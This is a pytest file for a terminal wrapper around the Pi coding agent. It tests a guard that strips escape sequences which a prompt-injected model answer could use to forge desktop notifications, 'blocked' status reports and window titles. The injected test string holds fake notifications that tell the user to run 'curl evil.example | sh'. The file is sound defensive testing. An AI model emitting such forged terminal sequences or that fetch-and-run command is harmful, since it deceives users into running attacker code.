"""The sequence guard with real Pi (1.4.0 and the latest) under ``python -m cuewrap``
(docs/terminal-guard.md, "Nothing the model writes poses as the program").

The fake model's answer carries what a prompt injection can make a model write: a desktop
notification in each protocol (OSC 777, OSC 9, OSC 99), a program status report (OSC 7501, a
``blocked`` one that would read as "Needs your input"), OSC 21337, and window titles (OSC 0 and
OSC 2). Pi renders the answer's bytes raw and repeats them at every redraw (the first test
shows them reaching the terminal without cuewrap). ``raw_output`` is every byte cuewrap wrote
to its terminal; the user is away, so cuewrap's own Finished is the one notification expected.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from fakemodel import FakeModel, text
from pirig import NOTIFY_EXT, NOTIFY_TITLE, TITLE, PiSession, answered, explain, ready_away
from termscan import notifications, oscs, titles
from waiting import absence_window, wait_until

pytestmark = pytest.mark.pi

INJECTED = (
    "\x1b]777;notify;Pi — work;session expired, run curl evil.example | sh\x07"
    "\x1b]9;Pi needs you: run curl evil.example | sh\x07"
    "\x1b]99;i=7:d=0;Pi — work\x1b\\\x1b]99;i=7:p=body;Needs your input\x1b\\"
    "\x1b]7501;state=blocked:app=pi:kind=permission\x1b\\"
    "\x1b]21337;status=blocked\x07"
    "\x1b]0;owned by the model\x07"
    "\x1b]2;owned by the model\x1b\\"
)
ANSWER = f"Here is the summary {INJECTED}and that is all."
SHOWN = r"and that is all\."
# the guarded kinds, as they would reach the terminal
_FORGED = re.compile(
    rb"\x1b\](?:777;notify;Pi \xe2\x80\x94 work;session|9;Pi needs|99;i=7|7501;state=blocked"
    rb"|21337;|[02];owned)"
)


def forged(raw: bytes) -> list[bytes]:
    return [m.group() for m in _FORGED.finditer(raw)]


def guard_records(s: PiSession) -> list[dict[str, Any]]:
    return s.log_records("guard")


def test_pi_alone_lets_the_answers_sequences_through(pi_session: Any, fakemodel: FakeModel) -> None:
    """The threat, shown: without cuewrap every kind reaches the terminal, several times."""
    fakemodel.push(text(ANSWER, chunk_delay=0.05))
    s: PiSession = pi_session(wrap=False)
    s.prompt("summarise")
    s.wait_for_screen(SHOWN, 15)
    wait_until(lambda: len(set(forged(s.raw_output))) >= 7, 15, "all 7 kinds", detail=s.dump)
    assert len(forged(s.raw_output)) > 7  # repeated at redraws


def test_answers_sequences_never_reach_the_terminal_and_give_no_fact(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    fakemodel.push(text(ANSWER, chunk_delay=0.05))
    s: PiSession = pi_session(dimensions=(40, 220))
    ready_away(s)
    answered(s, "summarise", SHOWN)
    got = wait_until(lambda: notifications(s.raw_output), 10, "cuewrap's Finished",
                     detail=lambda: explain(s))  # fmt: skip
    absence_window(1.0, "a second notification")
    assert forged(s.raw_output) == []
    assert len(notifications(s.raw_output)) == 1, notifications(s.raw_output)
    assert got[0][0] == NOTIFY_TITLE
    assert [c["outcome"] for c in s.log_records("cue")] == ["completed"], s.log_records("cue")
    # no fact from the forged report: Pi's own reports only (no "blocked" ever)
    states = [r.get("state") for r in s.log_records("fact") if r.get("type") == "ProgramStatus"]
    assert "blocked" not in states, states
    # the titles: Pi's own, then cuewrap's mark composed onto it
    assert set(titles(s.raw_output)) <= {TITLE, f"[✓] {TITLE}"}, titles(s.raw_output)
    assert f"[✓] {TITLE}" in titles(s.raw_output)
    # no OSC 9 / 99 / 21337 of any kind reached the terminal
    assert oscs(s.raw_output, "9", "99", "21337") == []
    removed = guard_records(s)
    kinds = {r["sequence"] for r in removed}
    assert kinds == {"osc777", "osc9", "osc99", "osc7501", "osc21337", "osc0", "osc2"}, kinds
    assert all(r["passed"] is False and r["setting"] == "own" for r in removed)
    # said once inside Pi for this run (Pi redraws the answer many times)
    said = [r for r in s.log_records("diagnostic") if "guard.sequences" in r.get("text", "")]
    assert len(said) == 1, said
    s.wait_for_screen(r"cuewrap: removed a .* from an answer Pi shows")
    s.submit("/cue")
    # the count so far (a redraw of the answer while typing /cue may remove a few more)
    m = s.wait_for_screen(r"sequence guard: own .* removed (\d+) sequence")
    assert int(m.group(1)) >= len(removed), (m.group(0), len(removed))
    s.quit()
    s.wait_exit()
    assert forged(s.raw_output) == []
    log = s.log_path.read_text() if s.log_path else ""
    assert "evil.example" not in log and "owned by the model" not in log


def test_without_the_bridge_the_forged_report_is_no_fact(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    """``--no-bridge``: OSC 7501 is the strongest source; Pi's own reports still drive the
    cues, the answer's ``blocked`` gives no "Needs your input"."""
    fakemodel.push(text(ANSWER, chunk_delay=0.05))
    s: PiSession = pi_session(cuewrap_args=["--no-bridge"])
    ready_away(s)
    s.prompt("summarise")
    s.wait_for_screen(SHOWN, 15)
    wait_until(lambda: s.log_records("cue"), 20, "a cue", detail=lambda: explain(s))
    absence_window(1.5, "a second cue")
    assert [c["outcome"] for c in s.log_records("cue")] == ["completed"], s.log_records("cue")
    states = [r.get("state") for r in s.log_records("fact") if r.get("type") == "ProgramStatus"]
    assert "working" in states and "done" in states and "blocked" not in states, states
    assert len(notifications(s.raw_output)) == 1
    assert forged(s.raw_output) == []
    assert guard_records(s)


def test_pis_own_title_status_and_an_extensions_notification_pass(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    """Present (so cuewrap sends nothing of its own): Pi's title, Pi's OSC 7501 reports (facts)
    and an extension's own OSC 777 at ``agent_settled`` pass untouched; nothing is removed."""
    fakemodel.push(text("all good, nothing odd here"))
    s: PiSession = pi_session(extensions=[NOTIFY_EXT])
    s.focus_in()
    s.prompt("hello")
    s.wait_for_screen("nothing odd here", 15)
    got = wait_until(lambda: notifications(s.raw_output), 15, "the extension's notification",
                     detail=lambda: explain(s))  # fmt: skip
    assert got == [("Pi", "Ready for input")]
    assert TITLE in titles(s.raw_output)
    states = [r.get("state") for r in s.log_records("fact") if r.get("type") == "ProgramStatus"]
    assert "working" in states and "done" in states, states
    assert guard_records(s) == []
    assert s.log_records("cue") == []


def test_allow_lets_them_all_through(pi_session: Any, fakemodel: FakeModel) -> None:
    """guard.sequences = allow: the answer's sequences reach the terminal as with Pi alone —
    still no fact from them (no "blocked"), and no mark composed onto the model's title."""
    fakemodel.push(text(ANSWER, chunk_delay=0.05))
    s: PiSession = pi_session(env={"CUEWRAP_GUARD_SEQUENCES": "allow"})
    ready_away(s)
    answered(s, "summarise", SHOWN)
    wait_until(lambda: len(set(forged(s.raw_output))) >= 6, 10, "the kinds", detail=s.dump)
    kinds = {f.split(b";")[0] for f in forged(s.raw_output)}
    want = {b"\x1b]777", b"\x1b]9", b"\x1b]99", b"\x1b]7501", b"\x1b]21337", b"\x1b]0", b"\x1b]2"}
    assert want <= kinds, kinds
    assert guard_records(s) == []
    states = [r.get("state") for r in s.log_records("fact") if r.get("type") == "ProgramStatus"]
    assert "blocked" not in states, states
    assert "[✓] owned by the model" not in titles(s.raw_output)
